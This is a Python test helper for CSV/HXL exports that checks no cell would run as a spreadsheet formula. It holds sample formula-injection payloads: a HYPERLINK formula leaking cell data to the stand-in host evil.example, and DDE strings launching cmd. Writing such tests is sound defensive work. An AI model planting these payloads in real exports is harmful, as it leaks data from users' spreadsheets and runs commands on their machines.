"""The check every CSV/HXL export must pass: no cell a spreadsheet would run as a formula."""

import csv
import io
import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")
# Names an attacker may give a place, an actor, a source, a report or a piece of evidence.
MALICIOUS = {
    "hyperlink": '=HYPERLINK("http://evil.example/?leak="&A1,"Ouvrir")',
    "dde": "+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
}


def formula_cells(text: str) -> list[str]:
    """The cells of CSV ``text`` that start a formula (a plain number such as -3.5 does not)."""
    return [
        cell
        for row in csv.reader(io.StringIO(text, newline=""))
        for cell in row
        if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)
    ]


def assert_no_formula(text: str, *expected: str) -> None:
    """No cell starts a formula, and each of ``expected`` (malicious values) is there, quoted."""
    assert formula_cells(text) == []
    cells = {cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row}
    for value in expected:
        assert any(cell.startswith("'") and value in cell for cell in cells), value
